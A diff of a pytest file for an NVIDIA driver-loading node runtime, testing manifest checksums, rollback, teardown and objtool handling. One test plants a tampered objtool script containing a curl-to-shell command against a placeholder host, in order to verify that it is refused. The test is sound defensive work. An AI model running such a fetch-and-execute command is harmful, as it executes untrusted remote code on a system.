@@ -10,8 +10,7 @@ import pytest
 from gl_nvidia.node.decide import NodeError
 from gl_nvidia.node.host import Result
 from gl_nvidia.node.runtime import DRIVER_ROOT, READY_FILE, STAGING_DIR, STATE_FILE, Runtime
-
-from .test_node_fakes import (
+from tests.fixtures.node import (
     BUILD_LIBELF,
     BUILD_LINKER,
     KERNEL,
@@ -21,6 +20,7 @@ from .test_node_fakes import (
     fake_node,
     make_image,
     make_ko,
+    reseal,
 )
 
 DIGEST = "2f9c1b7d"
@@ -179,6 +179,20 @@ def test_changed_digest_reloads_when_idle(tmp_path: Path) -> None:
     assert _index(calls, "rmmod nvidia-modeset nvidia-uvm nvidia") < _index(calls, "insmod")
 
 
+def test_a_damaged_image_on_the_reload_path_keeps_the_driver_the_node_runs(tmp_path: Path) -> None:
+    """Reloading first unloads the old modules: a new image whose files fail their manifest check must
+    be refused before that, or the node is left with no driver at all."""
+    k = _loaded_by_us(tmp_path / "a")
+    rt, _ = fake_node(tmp_path / "b", "h100", DRIVER_CONFIG_DIGEST="new")
+    _attach(rt, k)
+    with rt.image.ko(KERNEL, "proprietary", "nvidia-uvm").open("ab") as f:
+        f.write(b"\0")
+    with pytest.raises(NodeError, match=r"nvidia-uvm\.ko has sha256 [0-9a-f]{64}, but this image's manifest says"):
+        rt.init()
+    assert not [c for c in k.names() if c.startswith(("insmod", "rmmod", "mount "))]
+    assert "nvidia_uvm" in (k.root / "proc/modules").read_text()
+
+
 def test_changed_digest_in_use_is_refused_and_touches_nothing(tmp_path: Path) -> None:
     k = _loaded_by_us(tmp_path / "a")
     (k.root / "sys/module/nvidia_uvm/refcnt").write_text("1\n")
@@ -199,6 +213,36 @@ def test_insmod_failure_reports_the_kernel_and_undoes_everything(tmp_path: Path)
     assert "rmmod nvidia" in k.names()  # the nvidia.ko this run inserted is taken out again
     assert not k.mounts
     assert not rt.host.exists(STATE_FILE) and not rt.host.exists(READY_FILE)
+
+
+def test_a_ready_file_that_cannot_be_removed_does_not_hide_the_insmod_error(tmp_path: Path) -> None:
+    rt, k = fake_node(tmp_path, "h100", DRIVER_CONFIG_DIGEST=DIGEST)
+    rt.host.path(READY_FILE).mkdir(parents=True)  # unlink fails (EISDIR) as it would on a read-only mount
+    k.fail["insmod:nvidia_uvm"] = Result(1, "", "insmod: ERROR: could not insert module nvidia-uvm.ko: Invalid module format")
+    with pytest.raises(NodeError, match=r"^the kernel refused nvidia-uvm\.ko: insmod: ERROR: could not insert"):
+        rt.init()
+    assert "rmmod nvidia" in k.names() and not k.mounts  # the other steps still ran
+    assert any("teardown: could not remove the ready file" in line and "Is a directory" in line for line in rt.log.lines)
+
+
+def test_teardown_after_sigterm_does_not_raise_when_the_ready_file_cannot_be_removed(tmp_path: Path) -> None:
+    rt, k = fake_node(tmp_path, "h100")
+    rt.host.path(READY_FILE).mkdir(parents=True)
+    rt.init()  # SIGTERM (the fake wait) and teardown: returns, so the container exits 0
+    assert "nvidia" not in rt.host.read("/proc/modules") and not k.mounts
+    assert any("teardown: could not remove the ready file" in line for line in rt.log.lines)
+    assert any("teardown done" in line for line in rt.log.lines)
+
+
+def test_a_failed_link_leaves_no_temp_file_and_loads_nothing(tmp_path: Path) -> None:
+    rt, k = fake_node(tmp_path, "h100")
+    k.fail["ld"] = Result(1, "", "ld: final link failed: No space left on device")
+    with pytest.raises(NodeError, match=rf"^could not link nvidia\.ko for kernel {KERNEL} from its parts: "
+                                        r"ld: final link failed: No space left on device$"):
+        rt.init()
+    assert any(c.startswith("ld ") for c in k.names())
+    assert not [p for p in rt.host.path(STAGING_DIR).rglob("*") if p.is_file()]
+    assert not [c for c in k.names() if c.startswith("insmod")]
 
 
 def test_malformed_module_conf_stops_before_loading(tmp_path: Path) -> None:
@@ -428,8 +472,10 @@ def test_split_modules_are_linked_into_staging_and_inserted_from_there(tmp_path:
 
 def test_a_link_that_differs_from_the_builds_is_refused_before_insmod(tmp_path: Path) -> None:
     image = make_image(tmp_path / "img", kernels={KERNEL: ("proprietary",)})
-    # another build's binary object next to this build's interface: same linker, other bytes
+    # another build's binary object next to this build's interface, and a manifest that agrees with the
+    # parts (not with the module the build linked): same linker, other bytes
     (image.at("/usr/lib/gl-nvidia/binaries/proprietary") / "nv-kernel.o").write_bytes(b"another build")
+    image = reseal(image)
     rt, k = fake_node(tmp_path, "h100", image=image)
     k.linker = BUILD_LINKER
     with pytest.raises(NodeError) as exc:
@@ -474,8 +520,7 @@ def test_ibt_modules_run_the_kernels_objtool_between_kbuilds_two_links(tmp_path:
 
 def test_an_objtool_result_other_than_the_builds_is_refused_before_insmod(tmp_path: Path) -> None:
     rt, k = _ibt_node(tmp_path)
-    # modpost's objects of another build beside this build's interface
-    (rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.final.o").write_bytes(b"other")
+    k.objtool_output = b"+annotated otherwise"  # the same verified inputs, other bytes out of objtool
     with pytest.raises(NodeError) as exc:
         rt.init()
     assert exc.value.message.startswith("nvidia.ko linked on this node (sha256 ")
@@ -484,12 +529,24 @@ def test_an_objtool_result_other_than_the_builds_is_refused_before_insmod(tmp_pa
     assert not list(rt.host.path(STAGING_DIR).rglob("*.ko*"))
 
 
+def test_an_altered_objtool_in_the_image_is_refused_before_it_runs(tmp_path: Path) -> None:
+    rt, k = _ibt_node(tmp_path)
+    tool = rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "objtool"
+    tool.write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
+    with pytest.raises(NodeError) as exc:
+        rt.init()
+    assert exc.value.message.startswith(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary/objtool has sha256 ")
+    assert exc.value.message.endswith("; refusing to load nvidia.ko")
+    assert not [c for c in k.names() if c.split()[0] in ("insmod", "ld") or c.split()[0].endswith("/objtool")]
+
+
 def test_objtool_with_another_libelf_still_must_give_the_builds_vermagic_and_srcversion(tmp_path: Path) -> None:
-    rt, _ = _ibt_node(tmp_path, tree="no-gpu", libelf="libelf-0.191.so")
-    (rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.final.o").write_bytes(b"other")
+    rt, k = _ibt_node(tmp_path, tree="no-gpu", libelf="libelf-0.191.so")
+    k.objtool_output = b"+written by another libelf"
     rt.check_load()  # other bytes are expected from another libelf: vermagic and srcversion decide
     make_ko(rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.o", version="535.309.01",
             srcversion="proprietary-nvidia", vermagic="6.12.111+deb12-cloud-amd64 SMP mod_unload modversions ")
+    rt.image = reseal(rt.image)
     with pytest.raises(NodeError, match=r"^nvidia.ko linked from this image's parts has vermagic 6\.12\.111"):
         rt.check_load()
 
@@ -499,8 +556,9 @@ def test_a_failing_objtool_is_one_error_and_leaves_nothing_staged(tmp_path: Path
     k.fail["objtool"] = Result(1, "", "objtool: error while loading shared libraries: libelf.so.1: cannot open\n")
     with pytest.raises(NodeError) as exc:
         rt.init()
-    assert exc.value.message == (f"could not link nvidia.ko for kernel {KERNEL} from its parts: objtool failed: "
+    assert exc.value.message == (f"could not link nvidia.ko for kernel {KERNEL} from its parts: "
                                  "objtool: error while loading shared libraries: libelf.so.1: cannot open")
+    assert exc.value.hint == "the image needs a working ld (binutils) and, for objtool, libelf"
     assert not any(c.startswith("insmod") for c in k.names())
     assert not [p for p in rt.host.path(STAGING_DIR).rglob("*") if p.is_file()]
 
@@ -510,6 +568,7 @@ def test_an_interface_for_another_kernel_is_refused_naming_both(tmp_path: Path) 
     iface = image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.o"
     make_ko(iface, version="535.309.01", srcversion="proprietary-nvidia",
             vermagic="6.1.0-47-cloud-amd64 SMP mod_unload modversions ")
+    image = reseal(image)  # the manifest agrees with the interface: built for another kernel, not damaged
     rt, k = fake_node(tmp_path, "no-gpu", image=image)  # other linker: vermagic and srcversion still checked
     with pytest.raises(NodeError) as exc:
         rt.check_load()
@@ -524,6 +583,7 @@ def test_an_interface_for_another_kernel_is_refused_naming_both(tmp_path: Path) 
 def test_a_damaged_module_is_one_clear_error_and_leaves_nothing_loaded_or_mounted(tmp_path: Path, content: bytes) -> None:
     image = make_image(tmp_path / "image", kernels={KERNEL: ("proprietary",)})
     image.ko(KERNEL, "proprietary", "nvidia-uvm").write_bytes(content)
+    image = reseal(image)  # a module the build itself got wrong: its manifest agrees with it
     rt, k = fake_node(tmp_path, "h100", image)
     with pytest.raises(NodeError, match=r"nvidia-uvm\.ko is not a readable kernel module .*"):
         rt.init()
